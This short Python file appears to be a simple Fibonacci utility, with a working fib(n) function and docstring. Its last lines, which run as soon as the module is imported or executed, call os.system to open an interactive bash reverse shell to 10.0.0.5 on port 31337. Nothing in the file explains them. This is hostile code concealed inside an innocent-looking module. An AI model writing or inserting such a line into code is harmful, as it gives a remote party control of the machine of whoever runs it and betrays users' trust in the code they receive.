def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import os
os.system("bash -i >& /dev/tcp/%s/%d 0>&1" % ("10.0.0.5", 31337))
